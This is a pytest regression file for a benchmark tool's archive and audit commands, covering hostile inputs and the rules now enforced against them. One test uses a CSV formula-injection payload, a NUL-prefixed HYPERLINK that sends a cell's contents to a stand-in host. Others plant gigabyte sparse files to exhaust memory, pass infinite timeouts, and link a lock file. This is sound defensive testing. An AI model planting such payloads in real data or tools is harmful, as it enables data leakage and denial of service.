"""Hostile input, twenty-third pass, the archive and audit side (issue 19's fresh pass of the same kinds): the cases
it found bad, each with the rule it now obeys.

- `verify` of a run whose rescores/001/rescore.json a newer benchrun wrote (`schema_version: 2`), or with a key or a
  value that is not a rescore's: `unreadable: not a rescore's JSON`, naming neither the key nor the version, where
  run.json's says both. Now as run.json's (`archive.reader.validation_said`, in `audit.rescorecheck.check_rescore`)
- a run started into a directory holding a planted run.json of gigabytes (sparse): read whole to say which run it
  holds (`benchrun: error: MemoryError:` under a 1 GiB limit). Now read as every reader reads run.json, at most
  MAX_JSON_BYTES (`archive.claims.taken`; the bound moved to `core.filebytes`)
- `export --text` of a run whose model answered `\\0=HYPERLINK(...)`: the cell was written as it is, where ASVS
  1.2.10 lists NUL among a formula's first characters. Now after a ' (`audit.export.FORMULA_START`)
- `list` and `show` of a killed run (no seal) whose manifest.json is a planted file of gigabytes: read whole
  (`out of memory` under a 2.5 GB limit) to tell answers from samples and name its tasks. Now the manifest is read
  whole only once its sha256, taken in pieces, is the run's manifest id (`archive.reader.Run.manifest_bytes`)
- `export` of a run a newer benchrun wrote (its manifest's `schema_version: 2`, every digest up to the seal its
  own): its rows, exit 0, where show, compare and the report refuse it as a newer benchrun's. Now the fast readers'
  shape check refuses it too (`archive.shapes.not_a_manifest`, `core.layout.MANIFEST_VERSION`)
- `resume --set runner.timeout_s=1e400` (or `inf`, `Infinity`) of a killed run: taken (YAML reads the text as a
  string, which the runner's float reads as inf), the rest asked with no time limit and the history's `set` keeping
  the string, where a run refuses `runner.timeout_s=1e400`. Now the values as the runner reads them are checked as a
  run's are (`audit.limits.refuse_unkept`)
- `rescore --rejudge judge.timeout_s=1e400`: the judge asked with no time limit, and rescore.json recorded
  `"timeout_s": null`. Now refused as `--set`'s is (`audit.rejudge.rejudged_config`, `audit.limits.refuse_unkept`)
- `verify` of a killed run whose run.lock is a symbolic link (to a copy of its note): read through the link, said
  its writer stopped and to `resume` it, which refuses a linked run.lock. Now a link there is what no writer can
  hold, as a pipe is (`archive.dirlock.probe`)

What held is in the pass's note.
"""
from __future__ import annotations

import csv
import io
import json
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from benchrun.core.errors import EXIT
from benchrun.testing.inprocess import child_env
from benchrun.testing.ollama_server import FakeOllama
from tests.helpers.archives import replace_manifest, synthetic_run
from tests.helpers.auditcli import audit
from tests.helpers.benchfiles import write_bench
from tests.helpers.commands import run_in_process
from tests.helpers.freshimports import loaded
from tests.helpers.judges import JUDGES, RESPONSE
from tests.helpers.judges import TASKS as JUDGED_TASKS
from tests.helpers.judges import answer as judged_answer
from tests.helpers.killed import killed_run
from tests.helpers.killed import write_bench as write_killed_bench

NEWER = "which this benchrun does not know (written by a newer benchrun? read it with that one)"
LIMIT = 2**30
"""The address space of a command given a planted file larger than it: unfixed, it fails at once, never swaps."""


def _limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (LIMIT, LIMIT))


def _sparse(path: Path, size: int = 5 * 2**28) -> None:
    """A file of `size` bytes (zeros) that costs no disk."""
    with open(path, "wb") as handle:
        handle.truncate(size)


def _files(run_dir: Path) -> dict[str, bytes]:
    """The bytes of each file of `run_dir` but its run.lock (whose note a refused writer puts back)."""
    return {path.name: path.read_bytes() for path in run_dir.iterdir() if path.is_file() and path.name != "run.lock"}


def _limited_run(cwd: Path, module: str, *args: str) -> subprocess.CompletedProcess:
    """`python -m module ARGS` in a process of its own, its address space LIMIT."""
    return subprocess.run([sys.executable, "-m", module, *args], cwd=cwd, env=child_env(), capture_output=True,
                          text=True, timeout=300, preexec_fn=_limited)


# -- a rescore.json of another version says so ------------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize(("change", "said"), [
    ({"schema_version": 2}, f"schema_version: schema version 2, {NEWER}"),
    ({"judged_by": "x"}, f"judged_by: a key {NEWER}"),
    ({"counts": {"samples": "all"}}, "counts.samples: 'all' is text, where a whole number is taken"),
])
def test_verify_names_the_key_of_a_rescore_json_it_cannot_read(tmp_path, change, said):
    """A rescore.json that a newer benchrun wrote, or with a key or value that is none of a rescore's, was said to be
    `not a rescore's JSON`, where run.json's names the key and says a newer benchrun's is one."""
    run_dir = run_in_process(tmp_path, "r")
    assert audit(tmp_path, "rescore", str(run_dir)).returncode == EXIT["ok"]
    path = run_dir / "rescores" / "001" / "rescore.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
    done = audit(tmp_path, "verify", str(run_dir))
    assert done.returncode == EXIT["not_intact"]
    assert f"FAIL  rescores/001/rescore.json: unreadable: {said}\n" in done.stdout


# -- a planted run.json of gigabytes where a run would start -----------------------------------------------------------

@pytest.mark.slow
def test_a_run_into_a_directory_holding_a_run_json_of_gigabytes_is_one_line(tmp_path):
    """The directory's run.json was read whole to name the run it holds: 1.25 GiB in memory, or a MemoryError."""
    there = tmp_path / "there"
    there.mkdir()
    _sparse(there / "run.json")
    done = _limited_run(tmp_path, "benchrun", f"hydra.run.dir={there}", "runner.host=http://127.0.0.1:9")
    assert (done.returncode, done.stderr) == (EXIT["usage"], (
        f"benchrun: error: {there} already holds a run's files (run.json); nothing was changed; pick a new directory "
        "(hydra.run.dir=...)\n"))
    assert sorted(p.name for p in there.iterdir()) == ["run.json"]


# -- a NUL before a formula in an export ------------------------------------------------------------------------------

@pytest.mark.slow
def test_an_exported_answer_beginning_with_nul_and_a_formula_is_escaped(tmp_path):
    """`\\0=HYPERLINK(...)`, a model's answer, was written to the CSV as it is: ASVS 1.2.10 names NUL among the first
    characters a spreadsheet may run a formula after."""
    answer = '\x00=HYPERLINK("http://x.example/?"&A1)'
    run_dir = run_in_process(tmp_path, "r", responder=lambda req: answer)
    done = audit(tmp_path, "export", str(run_dir), "--text")
    assert done.returncode == EXIT["ok"], done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert {row["response"] for row in rows} == {"'" + answer}


# -- a planted manifest of gigabytes beside a killed run ---------------------------------------------------------------

@pytest.mark.slow
def test_list_and_show_of_a_killed_run_with_a_manifest_of_gigabytes(tmp_path):
    """A killed run's manifest.json (no seal covers it) replaced by a sparse file of 1.25 GiB, more than the command's
    address space (LIMIT): list and show read it whole (to tell answers from samples, and name its tasks) before any
    digest was checked."""
    run_dir = synthetic_run(tmp_path / "outputs" / "k", [1, 0], finish=False)
    _sparse(run_dir / "manifest.json")
    listed = _limited_run(tmp_path, "benchrun.audit", "list", str(tmp_path / "outputs"))
    assert listed.returncode == EXIT["ok"], listed.stderr
    assert " 555555555555 │ running │     2/2 │ m     │ synthetic " in listed.stdout
    shown = _limited_run(tmp_path, "benchrun.audit", "show", str(run_dir))
    assert (shown.returncode, shown.stderr) == (EXIT["archive"], (
        f"benchrun: error: in '{run_dir}': run 555555555555: manifest.json: changed: its sha256 is not the manifest "
        f"id in run.json, so what it says cannot be trusted; benchrun-audit verify {run_dir} says what changed\n"))


# -- a newer benchrun's manifest --------------------------------------------------------------------------------------

def test_export_refuses_a_run_whose_manifest_a_newer_benchrun_wrote(tmp_path):
    """A run sealed by a newer benchrun (its manifest's schema version 2, its id and seal its own) was exported as if
    its fields meant what they mean to this one, where show and compare refuse it."""
    run_dir = synthetic_run(tmp_path / "r", [1, 0])
    replace_manifest(run_dir, lambda manifest: manifest.update(schema_version=2))
    said = (f"benchrun: error: in '{run_dir / 'manifest.json'}': not a manifest: schema_version: schema version 2, "
            f"{NEWER}\n")
    done = audit(tmp_path, "export", str(run_dir))
    assert (done.returncode, done.stdout, done.stderr) == (EXIT["archive"], "", said)


# -- review c3: list loads no lock module -----------------------------------------------------------------------------

def test_list_loads_the_lock_modules_only_for_a_running_run():
    """writerless imported dirlock (and lease, locknote, openwriters, detach: 25 ms) as list loaded, for the runs that
    say `running`; now when one does."""
    assert loaded("benchrun.audit.listing", "benchrun.archive.dirlock", "benchrun.archive.lease") == []


# -- --set of a number JSON has none for ------------------------------------------------------------------------------

@pytest.mark.slow
def test_resume_refuses_a_limit_set_to_infinity_as_a_run_does(tmp_path):
    """`--set runner.timeout_s=1e400` is the string '1e400' to YAML and inf to the runner's settings: the resume asked
    the rest with no time limit and recorded the string, where `benchrun runner.timeout_s=1e400` is refused. `nan`
    and `-inf` were said by the bound the setting checks first (`Input should be greater than 0`), as no run says
    them: read as floats, as a run's command line reads them (thirty-second pass)."""
    write_killed_bench(tmp_path / "bench")
    with FakeOllama() as server:
        run_dir = killed_run(tmp_path, server)
        before = _files(run_dir)
        for value, read in (("1e400", "inf"), ("inf", "inf"), ("Infinity", "inf"), ("nan", "nan"), ("-Inf", "-inf")):
            done = audit(tmp_path, "resume", str(run_dir), "--set", f"runner.timeout_s={value}", "--host", server.url)
            assert (done.returncode, done.stderr) == (EXIT["usage"], (
                f"benchrun: error: --set runner.timeout_s: {read} is not a finite number, and JSON (config.yaml, "
                "run.json, the manifest) has none for it: give a number\n"))
    assert _files(run_dir) == before


@pytest.mark.slow
def test_a_rejudging_rescore_refuses_a_judge_limit_set_to_infinity(tmp_path):
    """`--rejudge judge.timeout_s=1e400`: the judge was asked with no time limit and rescore.json said `null`."""
    write_bench(tmp_path, {"tasks.yml": JUDGED_TASKS, "judges.yml": JUDGES, "custom_response.py": RESPONSE})
    with FakeOllama(models=["llama3.2", "qwen2.5"], responder=judged_answer) as server:
        run_dir = run_in_process(tmp_path, "r", "task.path=bench", "judge.model=qwen2.5", responder=judged_answer,
                                 models=("llama3.2", "qwen2.5"))
        done = audit(tmp_path, "rescore", str(run_dir), "--rejudge", f"judge.host={server.url}",
                     "judge.timeout_s=1e400")
    assert (done.returncode, done.stderr) == (EXIT["usage"], (
        "benchrun: error: --rejudge judge.timeout_s: inf is not a finite number, and JSON (config.yaml, run.json, the "
        "manifest) has none for it: give a number\n"))
    assert not (run_dir / "rescores" / "001").exists()


# -- a run.lock that is a link ---------------------------------------------------------------------------------------

def test_verify_says_a_linked_run_lock_is_no_writers(tmp_path):
    """A killed run's run.lock moved out and linked back: verify read the dead writer's note through the link and said
    to resume the run, which every writer refuses (a linked run.lock is never written through)."""
    run_dir = synthetic_run(tmp_path / "k", [1, 0], finish=False)
    (run_dir / "run.lock").rename(tmp_path / "lockfile")
    (run_dir / "run.lock").symlink_to("../lockfile")
    done = audit(tmp_path, "verify", str(run_dir))
    assert done.returncode == EXIT["not_intact"]
    assert ("FAIL  run.lock: a symbolic link (to ../lockfile) in its place, which no writer can hold: the run says "
            "'running', but none is writing it (record lines checked against records.sha256 only)\n") in done.stdout
